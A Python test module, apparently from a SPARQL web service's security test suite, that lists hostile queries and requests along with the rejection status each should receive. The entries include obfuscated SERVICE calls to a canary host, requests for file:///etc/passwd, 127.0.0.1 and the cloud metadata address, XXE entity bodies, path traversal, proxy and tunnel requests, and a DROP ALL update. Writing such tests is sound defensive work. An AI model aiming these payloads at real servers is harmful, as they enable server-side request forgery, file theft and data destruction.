"""Queries that would have the server fetch something: SERVICE, FROM, LOAD and what is like them."""

from __future__ import annotations

from urllib.parse import quote

from tests.web.hostile.attacks import CANARY, FORM, QUERY, Attack, asked, got

_URL = f"<http://{CANARY}/sparql>"
_CALL = f"SERVICE {_URL} {{ ?s ?p ?o }}"

# Each would call another endpoint, in an engine that takes it so.
SERVICES: tuple[Attack, ...] = tuple(
    asked(f"service: {name}", text, 400)
    for name, text in {
        "plain": f"SELECT * {{ {_CALL} }}",
        "ask": f"ASK {{ {_CALL} }}",
        "silent": f"SELECT * {{ SERVICE SILENT {_URL} {{ ?s ?p ?o }} }}",
        "case": f"SELECT * {{ sErViCe {_URL} {{ ?s ?p ?o }} }}",
        "silent in case": f"SELECT * {{ SerVice sIlEnT {_URL} {{ ?s ?p ?o }} }}",
        "no blanks": f"SELECT*{{service{_URL}{{?s ?p ?o}}}}",
        "comment behind": f"SELECT * {{ SERVICE#x\n{_URL}#y\n{{ ?s ?p ?o }} }}",
        "comment before": f"SELECT * {{ # {{ <\r SERVICE {_URL} {{ ?s ?p ?o }} }}",
        "tabs and feeds": f"SELECT * {{\tSERVICE\t\r\n{_URL}\r{{ ?s ?p ?o }} }}",
        "escaped letter": f"SELECT * {{ \\u0053ERVICE {_URL} {{ ?s ?p ?o }} }}",
        "escaped long": f"SELECT * {{ \\U00000053ERVICE {_URL} {{ ?s ?p ?o }} }}",
        "escaped all": "SELECT * { "
        + "".join(f"\\u{ord(each):04X}" for each in "SERVICE")
        + f" {_URL} {{ ?s ?p ?o }} }}",
        "escaped address": f"SELECT * {{ SERVICE <\\u0068ttp://{CANARY}/> {{ ?s ?p ?o }} }}",
        "full width": f"SELECT * {{ \uff33ERVICE {_URL} {{ ?s ?p ?o }} }}",
        "long s": f"SELECT * {{ \u017fervice {_URL} {{ ?s ?p ?o }} }}",
        "invisible": f"SELECT * {{ SER\u200bVICE {_URL} {{ ?s ?p ?o }} }}",
        "zero width before": f"SELECT * {{ \ufeffSERVICE {_URL} {{ ?s ?p ?o }} }}",
        "byte order mark": f"\ufeffSELECT * {{ {_CALL} }}",
        "NUL inside": f"SELECT * {{ SER\0VICE {_URL} {{ ?s ?p ?o }} }}",
        "surrogate": f"SELECT * {{ SERVICE\ud800 {_URL} {{ ?s ?p ?o }} }}",
        "a name": f"PREFIX c: <http://{CANARY}/> SELECT * {{ SERVICE c:sparql {{ ?s ?p ?o }} }}",
        "a name glued": f"PREFIX : <http://{CANARY}/> SELECT * {{ SERVICE:x {{ ?s ?p ?o }} }}",
        "a prefix of that name": (
            f"PREFIX service: <http://{CANARY}/> SELECT * {{ SERVICE service:x {{ ?s ?p ?o }} }}"
        ),
        "base": f"BASE <http://{CANARY}/> SELECT * {{ SERVICE <sparql> {{ ?s ?p ?o }} }}",
        "variable": f"SELECT * {{ BIND({_URL} AS ?e) SERVICE ?e {{ ?s ?p ?o }} }}",
        "values": f"SELECT * {{ VALUES ?e {{ {_URL} }} SERVICE ?e {{ ?s ?p ?o }} }}",
        "in exists": f"SELECT * {{ ?a ?b ?c FILTER EXISTS {{ {_CALL} }} }}",
        "in not exists": f"SELECT * {{ ?a ?b ?c FILTER NOT EXISTS {{ {_CALL} }} }}",
        "in a bound exists": f"SELECT * {{ BIND(EXISTS {{ {_CALL} }} AS ?x) }}",
        "in optional": f"SELECT * {{ OPTIONAL {{ {_CALL} }} }}",
        "in minus": f"SELECT * {{ ?a ?b ?c MINUS {{ {_CALL} }} }}",
        "in union": f"SELECT * {{ {{}} UNION {{ {_CALL} }} }}",
        "in a graph": f"SELECT * {{ GRAPH ?g {{ {_CALL} }} }}",
        "in a sub-select": f"SELECT * {{ {{ SELECT * {{ {{ SELECT ?s {{ {_CALL} }} }} }} }} }}",
        "in itself": f"SELECT * {{ SERVICE {_URL} {{ {_CALL} }} }}",
        "in having": f"SELECT ?a {{ ?a ?b ?c }} GROUP BY ?a HAVING (EXISTS {{ {_CALL} }})",
        "in order": f"SELECT * {{ ?a ?b ?c }} ORDER BY EXISTS {{ {_CALL} }}",
        "in a select clause": f"SELECT (EXISTS {{ {_CALL} }} AS ?x) {{}}",
        "construct": f"CONSTRUCT {{ ?s ?p ?o }} {{ {_CALL} }}",
        "construct where": f"CONSTRUCT WHERE {{ {_CALL} }}",
        "describe": f"DESCRIBE ?s {{ {_CALL} }}",
        "behind quotes": f'SELECT * {{ ?s ?p "a\'" . {_CALL} }}',
        "behind long quotes": f"SELECT * {{ ?s ?p '''a\\'''' . {_CALL} }}",
        "behind a quoted hash": f'SELECT * {{ ?s ?p "#" . {_CALL} }}',
        "behind an escape": f'SELECT * {{ ?s ?p "\\\\" . {_CALL} #" \n}}',
        "behind an address with a hash": f"SELECT * {{ ?s <urn:a#b> ?o . {_CALL} }}",
        "behind less than": f"SELECT * {{ ?s ?p ?o FILTER(?o<?s) {_CALL} FILTER(?s>?o) }}",
        "behind a name with an escape": (
            f"PREFIX e: <urn:x:> SELECT * {{ ?s e:a\\' ?o . {_CALL} #'\n}}"
        ),
        "behind a number": f"SELECT * {{ ?s ?p 1SERVICE {_URL} {{ ?s ?p ?o }} }}",
        "behind a truth": f"SELECT * {{ ?s ?p true.SERVICE {_URL} {{ ?s ?p ?o }} }}",
        "behind a tag": f'SELECT * {{ ?s ?p "a"@en.SERVICE {_URL} {{ ?s ?p ?o }} }}',
        "behind a blank node": f"SELECT * {{ ?s ?p _:a.SERVICE {_URL} {{ ?s ?p ?o }} }}",
        "to a file": "SELECT * { SERVICE <file:///etc/passwd> { ?s ?p ?o } }",
        "to the server": "SELECT * { SERVICE <http://127.0.0.1/sparql> { ?s ?p ?o } }",
        "to metadata": "SELECT * { SERVICE <http://169.254.169.254/latest/> { ?s ?p ?o } }",
    }.items()
)

# The word where it is data.
INNOCENT: tuple[Attack, ...] = tuple(
    asked(f"no service: {name}", text, 200)
    for name, text in {
        "in a string": f'SELECT * {{ ?s ?p "SERVICE <http://{CANARY}/> {{}}" }}',
        "in a long string": f"SELECT * {{ ?s ?p '''\nSERVICE {_URL} {{}}''' }}",
        "in a comment": f"SELECT * {{ # SERVICE {_URL} {{ ?s ?p ?o }}\n}}",
        "in an address": f"SELECT * {{ ?s <http://{CANARY}/SERVICE> ?o }}",
        "as a variable": "SELECT ?SERVICE { ?SERVICE a ?service } LIMIT 1",
        "as a prefix": "PREFIX service: <urn:x:> SELECT * { ?s service:x ?o }",
        "as a function": "PREFIX e: <urn:x:> SELECT * { ?s e:service ?o }",
    }.items()
)

_REMOTE = {
    "http": f"http://{CANARY}/data.ttl",
    "file": "file:///etc/passwd",
    "path": "/etc/passwd",
    "up": "../../../../etc/passwd",
    "upper": f"HTTP://{CANARY}/",
    "jar": f"jar:http://{CANARY}/a!/b",
    "data": "data:text/turtle,<urn:a> <urn:b> <urn:c> .",
}


def _datasets() -> list[Attack]:
    found: list[Attack] = []
    for name, url in _REMOTE.items():
        iri = f"<{url.replace('<', '%3C').replace('>', '%3E').replace(' ', '%20')}>"
        found += [
            asked(f"from {name}", f"SELECT * FROM {iri} {{ ?s ?p ?o }}", 400),
            asked(f"from named {name}", f"SELECT * FROM NAMED {iri} {{ GRAPH ?g {{}} }}", 400),
        ]
        for parameter in ("default-graph-uri", "named-graph-uri"):
            pairs = f"query={quote('ASK {}')}&{parameter}="
            value = url if CANARY in url else quote(url, safe="")
            found += [
                got(f"{parameter} {name}", f"/sparql?{pairs}{value}", 400, accept="*/*"),
                Attack(
                    f"{parameter} {name} in a form",
                    (400,),
                    method="POST",
                    headers={"Content-Type": FORM},
                    body=f"{pairs}{value}".encode(),
                ),
            ]
    return found


_CONTEXT = f'{{"@context": "http://{CANARY}/ctx", "@id": "urn:a", "urn:b": "c"}}'
_ENTITY = (
    f'<!DOCTYPE a [<!ENTITY b SYSTEM "http://{CANARY}/e"><!ENTITY c SYSTEM "file:///etc/passwd">'
    f'<!ENTITY % d SYSTEM "http://{CANARY}/d"> %d;]><a>&b;&c;</a>'
)
_BODIES = {
    "application/ld+json": _CONTEXT.encode(),
    "application/rdf+xml": _ENTITY.encode(),
    "text/turtle": f"@base <http://{CANARY}/> . <a> <b> <c> .".encode(),
    "multipart/form-data; boundary=b": (
        b'--b\r\nContent-Disposition: form-data; name="query"; filename="../../x"\r\n\r\nASK {}\r\n'
        b"--b--\r\n"
    ),
}
ROUTES = (
    "/", "/sparql", "/claim", "/claim/a/b", "/source", "/matrix.json", "/audit", "/search",
    "/queries/claims", "/api/queries/claims", "/network", "/export/turtle", "/static/magkg.css",
    "/healthz", "/metrics", "/openapi.json", "/.well-known/void", "/robots.txt",
)  # fmt: skip
BODIES: tuple[Attack, ...] = tuple(
    Attack(
        f"{kind.partition(';')[0]} to {route}",
        (415,) if route == "/sparql" else (405,),
        route,
        "POST",
        {"Content-Type": kind},
        body,
    )
    for kind, body in _BODIES.items()
    for route in ROUTES
)
DATASETS: tuple[Attack, ...] = (
    *_datasets(),
    *(
        Attack(f"update {name}", (403,), f"/sparql?update={quote(text)}".replace("%3A", ":"))
        for name, text in {"load": f"LOAD <http://{CANARY}/>", "drop": "DROP ALL"}.items()
    ),
    Attack(
        "a graph store's path", (404, 400), f"/sparql/graph?graph=http://{CANARY}/",
        headers={"Accept": "text/turtle"},
    ),
    Attack("a proxy's request", (200, 404), raw=(
        f"GET http://{CANARY}/ HTTP/1.1\r\nHost: {CANARY}\r\nConnection: close\r\n\r\n".encode()
    )),
    Attack("a tunnel", (400, 405), raw=(
        f"CONNECT {CANARY} HTTP/1.1\r\nHost: {CANARY}\r\nConnection: close\r\n\r\n".encode()
    )),
    Attack("a query as JSON-LD answer", (200, 406), "/sparql?query=ASK%20%7B%7D", headers={
        "Accept": f'application/ld+json;profile="http://{CANARY}/"', "Content-Type": QUERY,
    }),
)  # fmt: skip
